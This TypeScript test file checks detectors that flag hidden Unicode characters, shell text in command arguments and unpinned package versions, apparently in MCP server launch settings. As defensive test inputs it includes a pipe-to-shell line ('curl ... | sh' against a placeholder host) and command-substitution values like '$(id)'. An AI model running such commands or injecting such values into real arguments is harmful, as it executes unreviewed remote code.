import { describe, expect, it } from 'vitest';
import {
  hidesCharacters,
  shellTextPositions,
  unpinnedPackagePosition,
} from './argument-warnings.ts';

describe('hidden characters', () => {
  it.each(['a\u200bb', 'a\u202eb', 'a\nb', 'a\tb', 'a\u00a0b', '\u{e0041}', 'a\u0007'])(
    'are found in %j [SE-31.hidden]',
    (text) => {
      expect(hidesCharacters(text)).toBe(true);
    },
  );
  it.each(['plain text', 'größer 日本語 한국어', '😀', ''])('are not found in %j', (text) => {
    expect(hidesCharacters(text)).toBe(false);
  });
});

describe('shell text in arguments', () => {
  it.each([
    ['npx', ['-y', 'x', 'curl -s https://a.example/i.sh | sh'], [3]],
    ['node', ['a && b', 'a || b', 'a; b', 'a > b', '$(id)', '`id`'], [1, 2, 3, 4, 5, 6]],
    ['/bin/sh', ['-c', 'id'], [2]],
    ['bash', ['-lc', 'id'], [2]],
    ['C:\\Windows\\System32\\cmd.exe', ['/c', 'dir'], [2]],
    ['powershell.exe', ['-Command', 'dir'], [2]],
  ])('are named by their position: %s %j [SE-31.shell-text]', (command, args, positions) => {
    expect(shellTextPositions(command, args)).toEqual(positions);
  });

  it.each([
    ['node', ['-c', 'id', '--x=1']],
    ['npx', ['https://a.example/?a=1&b=2;c', 'a|b', 'name@1.0.0', '/path with space/x', 'a>b']],
  ])('are not seen where there are none: %s %j', (command, args) => {
    expect(shellTextPositions(command, args)).toEqual([]);
  });
});

describe('packages without an exact version', () => {
  it.each([
    ['npx', ['-y', 'docs-mcp'], 2],
    ['npx', ['--yes', '@scope/docs-mcp', 'x@1.2.3'], 2],
    ['npx', ['-y', 'docs-mcp@latest'], 2],
    ['npx', ['docs-mcp@^1.2.0'], 1],
    ['npx', ['@scope/docs@1.2'], 1],
    ['/usr/local/bin/npx', ['-p', 'docs-mcp', 'docs'], 2],
    ['npx', ['--package=docs-mcp', 'docs'], 1],
    ['npx.cmd', ['-y', 'docs-mcp'], 2],
    ['bunx', ['docs-mcp'], 1],
    ['pnpm', ['dlx', 'docs-mcp'], 2],
    ['npx', ['github:who/what'], 1],
    ['uvx', ['--python', '3.12', 'docs-mcp'], 3],
    ['pipx', ['run', 'docs-mcp'], 2],
  ])('are named: %s %j [SE-35.unpinned]', (command, args, position) => {
    expect(unpinnedPackagePosition(command, args)).toBe(position);
  });

  it.each([
    ['npx', ['-y', 'docs-mcp@1.4.2']],
    ['npx', ['-y', '@scope/docs-mcp@1.4.2-beta.1', 'other']],
    ['npx', ['-p', 'docs-mcp@1.0.0', 'docs']],
    ['npx', ['./local/server']],
    ['npx', []],
    ['npx', ['-y']],
    ['node', ['docs-mcp']],
    ['uvx', ['docs-mcp==1.4.2']],
    ['pnpm', ['run', 'docs-mcp']],
    ['/opt/constructor', ['docs-mcp']],
  ])('are not seen in %s %j', (command, args) => {
    expect(unpinnedPackagePosition(command, args)).toBeUndefined();
  });
});
